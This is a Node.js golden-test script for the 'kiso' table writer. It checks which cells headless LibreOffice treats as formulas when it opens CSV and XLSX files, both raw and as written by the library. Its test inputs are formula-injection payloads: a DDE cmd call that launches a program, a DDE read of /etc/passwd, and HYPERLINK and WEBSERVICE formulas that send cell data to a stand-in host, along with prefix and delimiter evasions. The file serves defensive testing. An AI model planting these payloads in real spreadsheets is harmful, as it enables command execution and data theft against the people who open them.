// What LibreOffice makes of cells that it would run, of tables as kiso writes them and of the same texts as they are:
//   npm run build && node tests/golden/formulas.mjs > tests/golden/formulas.json
import { execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { writeTable } from "../../dist/node.js";

const texts = [
  "=1+1",
  "=cmd|'/C calc'!A0",
  '=DDE("soffice";"/etc/passwd";"a")',
  '=HYPERLINK("http://a.example/?"&A1,"see")',
  '=WEBSERVICE("http://a.example/?"&A1)',
  "+SUM(B2:B3)",
  "+1+1",
  "-2+3",
  "-A1",
  "@SUM(A1)",
  "\t=1+1",
  "\r=1+1",
  " =1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  "＝1+1",
  "a;=1+1",
  "a\t=1+1",
  "a,=1+1",
  'a";=1+1',
  "a\n=1+1",
  "-5 mm",
  "-1.5%",
  "-NG",
];
const folder = mkdtempSync(join(tmpdir(), "kiso-formulas-"));
const quoted = (text) => `"${text.replaceAll('"', '""')}"`;

/** The cells that LibreOffice holds to be formulas, by their text, and how many cells there are. */
function opened(file, filter) {
  const as = filter ? [`--infilter=${filter}`] : [];
  const argv = [
    `-env:UserInstallation=file://${folder}/profile`,
    "--headless",
    ...as,
    "--convert-to",
    "fods",
    "--outdir",
    folder,
    join(folder, file),
  ];
  execFileSync("soffice", argv, { stdio: "ignore" });
  const xml = readFileSync(join(folder, file.replace(/\.\w+$/, ".fods")), "utf8");
  const cells = [...xml.matchAll(/<table:table-cell\b([^>]*?)(?:\/>|>)/g)].map(
    ([, attributes]) => attributes,
  );
  return {
    cells: cells.filter((one) => one.includes("office:value-type")).length,
    formulas: cells.flatMap((one) => /table:formula="([^"]*)"/.exec(one)?.[1] ?? []),
  };
}

/** By its defaults; formulas evaluated; cells divided by semicolons alone, as in Germany; by all that may divide them. */
const ways = {
  default: undefined,
  evaluated: "CSV:44,34,76,1,,0,false,true,false,false,false,0,true",
  semicolon: "CSV:59,34,76,1,,0,false,true,false,false,false,0,true",
  "any sign": "CSV:44/59/9/124,34,76,1,,0,false,true,false,false,false,0,true",
};
const columns = [
  { name: "=1+1", text: texts },
  { name: "number", values: texts.map((_, i) => -i) },
  { name: "@class", text: texts.map((_, i) => texts[(i + 7) % texts.length]) },
];
await writeTable(join(folder, "kiso.csv"), columns);
await writeTable(join(folder, "kiso.xlsx"), columns);
const rows = [
  columns.map(({ name }) => name),
  ...texts.map((text, i) => [text, String(-i), columns[2].text[i]]),
];
writeFileSync(join(folder, "raw.csv"), rows.map((row) => `${row.map(quoted).join()}\n`).join(""));

const found = {};
for (const [way, filter] of Object.entries(ways)) {
  found[way] = { raw: opened("raw.csv", filter), kiso: opened("kiso.csv", filter) };
}
found.xlsx = { kiso: opened("kiso.xlsx") };
process.stdout.write(`${JSON.stringify({ texts, found }, null, 1)}\n`);
